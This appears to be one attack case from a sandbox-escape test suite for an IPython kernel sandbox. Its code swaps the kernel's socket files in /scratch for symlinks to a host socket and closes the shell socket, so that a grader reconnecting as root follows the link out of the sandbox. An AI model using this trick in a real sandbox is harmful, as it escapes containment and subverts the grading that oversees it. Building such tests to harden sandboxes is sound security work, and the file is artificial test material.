# ruff: noqa: F821  (LOOT, np and exfiltrate come from _common.py; __NAMES__ are filled in by the test)
"""Redirect the grader: replace each of the kernel's socket files in /scratch with a link to a Unix socket on
the host (the test listens there and records who connects), then close the kernel's shell socket, so that a
grader that reconnects by path would follow the link, as root, out of the sandbox."""

import os

from IPython import get_ipython

for name in sorted(os.listdir("/scratch")):
    if name.startswith("kernel-"):
        try:
            os.replace(f"/scratch/{name}", f"/scratch/old-{name}")
            os.symlink("__HOST_SOCKET__", f"/scratch/{name}")
            LOOT.append(f"linked {name}")
        except OSError as e:
            LOOT.append(f"{name}: {e.strerror}")
kernel = get_ipython().kernel
stream = kernel.shell_stream if hasattr(kernel, "shell_stream") else kernel.shell_streams[0]
stream.socket.close(linger=0)
